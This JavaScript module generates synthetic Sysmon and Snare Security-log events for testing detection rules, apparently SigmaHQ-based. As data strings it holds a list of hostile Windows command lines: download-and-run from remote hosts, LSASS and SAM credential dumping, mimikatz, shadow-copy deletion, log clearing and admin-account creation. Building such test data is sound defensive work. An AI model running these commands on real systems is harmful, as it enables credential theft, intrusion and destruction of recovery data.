// Windows as shippers send it: Sysmon process creations and file events as flat JSON, and the Security log as Snare's text.
import { filePath, systemProgram, windowsPrograms } from './windows-programs.mjs';
import { DOMAIN } from './words.mjs';

const LEVELS = ['Medium', 'Medium', 'Medium', 'High', 'System', 'System', 'Low'];
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

/** Events as objects, about 800 bytes of JSON each. */
export function processCreations(words, suspicious) {
  const programs = windowsPrograms(words);
  return () => {
    const user = words.user();
    const attack = words.chance(suspicious) ? attackStart(words, programs, words.pick(ATTACKS)) : null;
    return creationEvent(words, user, words.host(), attack ?? benignStart(programs, user));
  };
}

/**
 * As `processCreations` with as few words as the generator of the Rust engine has, which the research's prototypes were
 * measured with: 10 images, 8 harmless and 10 suspicious command lines, 5 users and hosts.
 */
export function fewProcessCreations(words, suspicious) {
  const programs = windowsPrograms(words);
  const [users, hosts] = [words.list(5, () => words.user()), words.list(5, () => words.host())];
  const harmless = words.list(8, () => benignStart(programs, users[0]));
  const attacks = ATTACKS.slice(0, 10).map((attack) => attackStart(words, programs, attack));
  return () =>
    creationEvent(
      words,
      words.pick(users),
      words.pick(hosts),
      words.pick(words.chance(suspicious) ? attacks : harmless),
    );
}

/** What starts what, with which words. */
function benignStart(programs, user) {
  const [program, parent] = programs.start();
  return { program, parent, command: program.commandLine(user), parentCommand: parent.commandLine(user) };
}

function attackStart(words, programs, attack) {
  const [name, command] = attack(words);
  const parent = programs.any();
  const parentCommand = parent.commandLine(words.user());
  return { program: systemProgram(words, name), parent, command, parentCommand };
}

function creationEvent(words, user, host, { program, parent, command, parentCommand }) {
  return {
    EventID: 1,
    Channel: SYSMON,
    Computer: host,
    UtcTime: utcTime(words),
    ProcessGuid: words.guid(),
    ProcessId: words.pid(),
    Image: program.path,
    Description: program.description,
    OriginalFileName: program.original,
    CommandLine: command,
    CurrentDirectory: words.chance(0.6) ? 'C:\\Windows\\system32\\' : `C:\\Users\\${user}\\${words.name()}\\`,
    User: `${DOMAIN}\\${user}`,
    LogonId: `0x${words.hex(6)}`,
    IntegrityLevel: words.pick(LEVELS),
    Hashes: program.hashes,
    ParentProcessId: words.pid(),
    ParentImage: parent.path,
    ParentCommandLine: parentCommand,
  };
}

/** Events as objects, about 400 bytes of JSON each. */
export function fileEvents(words, suspicious) {
  const programs = windowsPrograms(words);
  return () => {
    const user = words.user();
    return {
      EventID: 11,
      Channel: SYSMON,
      Computer: words.host(),
      RuleName: '-',
      UtcTime: utcTime(words),
      ProcessGuid: words.guid(),
      ProcessId: words.pid(),
      Image: programs.any().path,
      TargetFilename: words.chance(suspicious) ? words.pick(DROPS)(words, user) : filePath(words, user),
      CreationUtcTime: utcTime(words),
      User: `${DOMAIN}\\${user}`,
    };
  };
}

/** Records of the Security log as one text each, tab-separated as Snare sends them; about 900 bytes. */
export function securityTexts(words, suspicious) {
  const programs = windowsPrograms(words);
  const kinds = [creationText, creationText, logonText, logonText, privilegeText, logoffText];
  return () => {
    const attack = words.chance(suspicious) ? words.pick(ATTACKS)(words) : null;
    const [id, task, text] =
      attack === null
        ? words.pick(kinds)(words, programs)
        : creationOf(words, systemProgram(words, attack[0]), programs.any(), attack[1]);
    const host = words.host();
    const head = [host, 'MSWinEventLog', 1, 'Security', words.n(900_000), stamp(words), id];
    const tail = ['Microsoft-Windows-Security-Auditing', 'N/A', 'N/A', 'Success Audit', host, task, text, ''];
    return [...head, ...tail].join('\t');
  };
}

/** File name of a Windows program and its command line: what SigmaHQ has rules for. */
const ATTACKS = [
  (w) => ['powershell.exe', `powershell.exe -NoP -W Hidden -enc ${w.base64(60)}`],
  (w) => [
    'powershell.exe',
    `powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://${w.stranger()}/${w.slug()}.ps1')"`,
  ],
  (w) => [
    'certutil.exe',
    `certutil -urlcache -split -f http://${w.stranger()}/${w.slug()}.exe C:\\Users\\Public\\${w.word()}.exe`,
  ],
  () => ['vssadmin.exe', 'vssadmin delete shadows /all /quiet'],
  (w) => ['reg.exe', `reg save HKLM\\SAM C:\\Windows\\Temp\\${w.word()}.hiv`],
  (w) => [
    'rundll32.exe',
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${w.pid()} C:\\Windows\\Temp\\${w.word()}.dmp full`,
  ],
  (w) => ['mshta.exe', `mshta.exe http://${w.stranger()}/${w.slug()}.hta`],
  (w) => ['regsvr32.exe', `regsvr32 /s /n /u /i:http://${w.stranger()}/${w.word()}.sct scrobj.dll`],
  (w) => [
    'bitsadmin.exe',
    `bitsadmin /transfer ${w.word()} /download /priority high http://${w.stranger()}/${w.slug()}.exe C:\\Users\\Public\\${w.word()}.exe`,
  ],
  (w) => [
    'schtasks.exe',
    `schtasks /create /sc minute /mo 5 /tn ${w.word()} /tr "powershell -w hidden -f C:\\Users\\Public\\${w.word()}.ps1"`,
  ],
  (w) => ['wmic.exe', `wmic /node:${w.client()} process call create "cmd.exe /c ${w.word()}.exe"`],
  () => ['whoami.exe', 'whoami /all'],
  () => ['nltest.exe', 'nltest /domain_trusts /all_trusts'],
  (w) => ['net.exe', `net user ${w.word()} ${w.hex(10)} /add`],
  (w) => ['net.exe', `net localgroup administrators ${w.word()} /add`],
  () => ['wevtutil.exe', 'wevtutil cl Security'],
  (w) => ['cmd.exe', `cmd.exe /c echo ${w.word()} > \\\\.\\pipe\\${w.word()}`],
  () => ['bcdedit.exe', 'bcdedit /set {default} recoveryenabled no'],
  () => ['cmd.exe', 'cmd.exe /c mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
  (w) => [
    'netsh.exe',
    `netsh interface portproxy add v4tov4 listenport=${w.port()} connectport=3389 connectaddress=${w.client()}`,
  ],
];

/** Files that SigmaHQ has rules for. */
const DROPS = [
  (w, user) =>
    `C:\\Users\\${user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\${w.word()}.vbs`,
  (w) => `C:\\Windows\\Temp\\lsass_${w.n(900)}.dmp`,
  (w) => `C:\\Users\\Public\\${w.word()}.exe`,
  (w) => `C:\\inetpub\\wwwroot\\${w.word()}.aspx`,
  () => 'C:\\Windows\\System32\\PSEXESVC.exe',
  (w, user) => `C:\\Users\\${user}\\Downloads\\${w.word()}.pdf.exe`,
  (w) => `C:\\Windows\\System32\\Tasks\\${w.word()}`,
  (w, user) => `C:\\Users\\${user}\\AppData\\Local\\Temp\\${w.word()}.iso`,
];

function creationText(words, programs) {
  const [program, parent] = programs.start();
  return creationOf(words, program, parent, program.commandLine(words.user()));
}

function creationOf(words, program, parent, commandLine) {
  const user = words.user();
  return [
    4688,
    'Process Creation',
    `A new process has been created.  ${subject(words, user)}  Target Subject:  Security ID:  S-1-0-0  Account Name:  -  Account Domain:  -  Logon ID:  0x0  Process Information:  New Process ID:  0x${words.hex(4)}  New Process Name:  ${program.path}  Token Elevation Type:  %%193${6 + words.n(3)}  Mandatory Label:  S-1-16-8192  Creator Process ID:  0x${words.hex(4)}  Creator Process Name:  ${parent.path}  Process Command Line:  ${commandLine}`,
  ];
}

function logonText(words) {
  const user = words.user();
  return [
    4624,
    'Logon',
    `An account was successfully logged on.  ${subject(words, `${words.host()}$`)}  Logon Information:  Logon Type:  ${words.pick([2, 3, 3, 3, 5, 7, 10, 11])}  Restricted Admin Mode:  -  Virtual Account:  No  Elevated Token:  ${words.pick(['Yes', 'No'])}  Impersonation Level:  Impersonation  New Logon:  ${account(words, user)}  Logon GUID:  ${words.guid()}  Process Information:  Process ID:  0x${words.hex(3)}  Process Name:  C:\\Windows\\System32\\${words.pick(['lsass.exe', 'svchost.exe', 'winlogon.exe'])}  Network Information:  Workstation Name:  ${words.host()}  Source Network Address:  ${words.client()}  Source Port:  ${words.port()}  Detailed Authentication Information:  Logon Process:  ${words.pick(['Kerberos', 'User32', 'Advapi'])}  Authentication Package:  Negotiate  Key Length:  0`,
  ];
}

function privilegeText(words) {
  const privileges = 'Security TakeOwnership LoadDriver Backup Restore SystemEnvironment Impersonate'.split(
    ' ',
  );
  return [
    4672,
    'Special Logon',
    `Special privileges assigned to new logon.  ${subject(words, words.user())}  Privileges:  ${privileges
      .filter(() => words.chance(0.7))
      .map((name) => `Se${name}Privilege`)
      .join('  ')}`,
  ];
}

function logoffText(words) {
  return [
    4634,
    'Logoff',
    `An account was logged off.  ${subject(words, words.user())}  Logon Type:  3  This event is generated when a logon session is destroyed. It may be positively correlated with a logon event using the Logon ID value.`,
  ];
}

function subject(words, user) {
  return `Subject:  ${account(words, user)}`;
}

function account(words, user) {
  return `Security ID:  S-1-5-21-${words.n(1e9)}-${words.n(1e9)}-${words.n(1e9)}-${1000 + words.n(9000)}  Account Name:  ${user}  Account Domain:  ${DOMAIN}  Logon ID:  0x${words.hex(6)}`;
}

function utcTime(words) {
  return new Date(Date.UTC(2026, 10, 20) + words.n(86_400_000)).toISOString().replace('T', ' ').slice(0, 23);
}

function stamp(words) {
  const [day, date, month, year, time] = new Date(Date.UTC(2026, 10, 20) + words.n(86_400_000))
    .toUTCString()
    .replace(',', '')
    .split(' ');
  return `${day} ${month} ${date} ${time} ${year}`;
}
